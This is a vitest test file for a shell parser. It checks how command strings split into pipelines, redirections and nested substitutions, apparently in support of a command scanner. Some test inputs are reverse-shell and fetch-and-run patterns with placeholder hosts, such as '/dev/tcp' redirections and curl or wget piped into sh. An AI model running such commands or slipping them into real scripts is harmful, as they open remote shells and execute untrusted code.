import { describe, expect, it } from 'vitest';
import { allCommands, parseShell } from './shell-parse.ts';

/** A compact picture: pipelines joined by " ; ", stages by " | ", redirects as fd+op+target. */
function shape(src: string): string {
  return parseShell(src)
    .map((p) =>
      p.commands
        .map((c) => {
          const parts = [...c.words, ...c.redirects.map((r) => `${r.fd}${r.op}${r.target}`)];
          return c.group ? `(${parts.join(' ')})` : parts.join(' ');
        })
        .join(' | '),
    )
    .join(' ; ');
}

describe('parseShell', () => {
  it.each([
    ['words and blanks', 'a  b\tc', 'a b c'],
    ['single and double quotes joined to words', `echo 'a b'"c d"e`, 'echo a bc de'],
    ['escapes', 'echo a\\ b \\$x', 'echo a b $x'],
    ['escaped percent in cron', 'date +\\%F', 'date +%F'],
    ['pipes and lists', 'a | b && c || d; e & f', 'a | b ; c ; d ; e ; f'],
    ['redirections with fds', 'bash -i >& /dev/tcp/h/1 0>&1', 'bash -i >&/dev/tcp/h/1 0>&1'],
    ['redirection glued to the word', 'cmd >/dev/null 2>&1', 'cmd >/dev/null 2>&1'],
    ['&> and &>>', 'a &>/x; b &>> /y', 'a &>/x ; b &>>/y'],
    ['a quoted digit is a word', 'echo "2">x', 'echo 2 >x'],
    ['here-string', 'base64 -d <<< abc | sh', 'base64 -d <<<abc | sh'],
    ['read-write fd', 'exec 5<>/dev/tcp/h/9', 'exec 5<>/dev/tcp/h/9'],
    ['comment', 'a # b | c', 'a'],
    ['hash inside a word is not a comment', 'echo a#b', 'echo a#b'],
    ['subshell as a stage', '(curl u || wget u) | sh', '() | sh'],
    ['command substitution kept in the word', 'bash -c "$(curl -s u)"', 'bash -c $(curl -s u)'],
    ['ANSI-C quoting decoded', "$'\\x2ftmp\\x2fx'", '/tmp/x'],
    ['line continuation', 'a \\\nb', 'a b'],
    ['newline separates', 'a\nb', 'a ; b'],
    ['unbalanced quote does not throw', 'echo "abc', 'echo abc'],
    ['unbalanced paren does not throw', 'echo $(abc', 'echo $(abc'],
    ['empty', '', ''],
  ])('%s', (_name, src, expected) => {
    expect(shape(src)).toBe(expected);
  });

  it('keeps substitutions, process substitutions and subshell bodies as nested scripts', () => {
    const names = (src: string) => [...allCommands(parseShell(src))].map((c) => c.words[0] ?? '');
    expect(names('bash -c "$(curl -s u)"')).toEqual(['bash', 'curl']);
    expect(names('sh <(wget -qO- u)')).toEqual(['sh', 'wget']);
    expect(names('echo `id`')).toEqual(['echo', 'id']);
    expect(names('(cd / && run-parts x) | sh')).toEqual(['', 'cd', 'run-parts', 'sh']);
    expect(names('x=$(echo $(date))')).toEqual(['x=$(echo $(date))', 'echo', 'date']);
  });
});
